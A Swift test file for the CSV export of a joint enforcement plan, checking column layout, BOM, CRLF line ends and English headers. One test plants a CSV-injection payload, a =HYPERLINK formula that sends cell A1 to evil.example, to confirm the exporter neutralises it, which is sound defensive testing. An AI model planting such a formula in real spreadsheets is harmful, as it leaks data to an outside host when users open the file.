import Foundation
import Testing
@testable import JointPlanPublish

@Suite struct PlanCSVTests {
    @Test func matchesGoldenFile() throws {
        try expectGolden(Fixture.files()["plan.csv"], "plan.csv")
    }

    @Test func startsWithTheBOMAndParsesBackWithNineColumns() throws {
        let data = try #require(Fixture.files()["plan.csv"])
        #expect(Array(data.prefix(3)) == [0xEF, 0xBB, 0xBF])
        let text = try #require(String(data: data.dropFirst(3), encoding: .utf8))
        let rows = try RFC4180.parse(text)
        #expect(rows.first == ["序号", "联合执法事项", "牵头部门", "配合部门", "执法对象", "执法区域", "轮次", "时间安排", "参与人员"])
        #expect(rows.count == Fixture.plan.sessions.count + 1)
        #expect(rows.allSatisfy { $0.count == 9 })
        #expect(rows.dropFirst().map { $0[0] } == ["1", "2", "3", "4", "5"])
        // Ordered by date: R02 (31 March) first; names, not ids.
        #expect(rows[1][1] == "危险化学品经营企业专项检查")
        #expect(rows[1][2] == "应急管理局")
        #expect(rows[1][4] == "危险化学品经营企业、加油站")
        #expect(rows[1][7] == "2025年3月31日—4月3日")
        #expect(rows[1][8] == "应急管理局3人、市场监督管理局2人")
        #expect(rows[2][3] == "应急管理局、生态环境局")
        #expect(rows[2][7] == "2025年4月7日—9日")
        #expect(rows[4][1] == "加油站油气回收\"双随机\"检查, 含储油库")
        #expect(rows[4][7] == "2025年6月30日、7月2日—3日")
        // Every line ends in CRLF.
        #expect(!text.replacingOccurrences(of: "\r\n", with: "").contains("\n"))
    }

    /// A department's title such as `=HYPERLINK(…)` must not run as a formula when the bureau opens the
    /// table in Excel or WPS (CSV injection): such cells start with an apostrophe, the rest stay as they are.
    @Test func cellsThatSpreadsheetsWouldRunAreText() throws {
        var scenario = Fixture.scenario
        let index = try #require(scenario.requests.firstIndex { $0.id == "R02" })
        scenario.requests[index].title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"附件\")"
        let data = try #require(Publisher.files(plan: Fixture.plan, scenario: scenario, options: PublishOptions(generatedAt: Fixture.stamp))
            .first { $0.relativePath == "plan.csv" }?.data)
        let rows = try RFC4180.parse(String(decoding: data.dropFirst(3), as: UTF8.self))
        #expect(rows[1][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"附件\")")
        for lead in ["+", "-", "@", "\t"] { #expect(PlanCSV.field(lead + "1") == "'" + lead + "1") }
        #expect(PlanCSV.field("依据《安全生产法》-第二轮") == "依据《安全生产法》-第二轮")
    }

    @Test func englishHeadersAndDates() throws {
        let data = try #require(Fixture.files(lang: .en)["plan.csv"])
        let rows = try RFC4180.parse(String(decoding: data.dropFirst(3), as: UTF8.self))
        #expect(rows[0] == ["No.", "Joint action", "Lead", "Partners", "Targets", "Region", "Round", "Dates", "Officers"])
        #expect(rows[1][7] == "31 Mar – 3 Apr 2025")
        #expect(rows[2][7] == "7–9 Apr 2025")
        #expect(rows[4][7] == "30 Jun, 2–3 Jul 2025")
    }
}

/// A tiny RFC 4180 reader: quoted fields with doubled quotes, CRLF or LF row ends.
enum RFC4180 {
    struct Malformed: Error {}

    static func parse(_ text: String) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var inQuotes = false
        var characters = Array(text.unicodeScalars)[...]
        while let scalar = characters.popFirst() {
            if inQuotes {
                if scalar == "\"" {
                    if characters.first == "\"" { characters.removeFirst(); field += "\"" } else { inQuotes = false }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                guard field.isEmpty else { throw Malformed() }
                inQuotes = true
            } else if scalar == "," {
                row.append(field); field = ""
            } else if scalar == "\r" || scalar == "\n" {
                if scalar == "\r" { guard characters.popFirst() == "\n" else { throw Malformed() } }
                row.append(field); field = ""
                rows.append(row); row = []
            } else {
                field.unicodeScalars.append(scalar)
            }
        }
        guard !inQuotes else { throw Malformed() }
        if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
        return rows
    }
}
